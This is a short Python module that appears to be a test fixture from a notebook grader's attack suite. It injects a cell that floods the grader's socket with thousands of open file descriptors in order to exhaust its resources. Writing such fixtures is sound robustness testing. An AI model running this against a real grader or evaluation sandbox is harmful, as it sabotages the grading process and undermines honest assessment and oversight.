"""Passes open files to the grader beside its replies, thousands of them."""

from grader.attacks import insert, take_the_wire

STOCK = "nothing"


def cell():
    import socket

    kept = [open("/dev/null") for _ in range(200)]
    fds = [file.fileno() for file in kept]
    for _ in range(100):
        socket.send_fds(wire.end, [b"\0"], fds)


def attack(nb, folder):
    insert(nb, take_the_wire, cell)
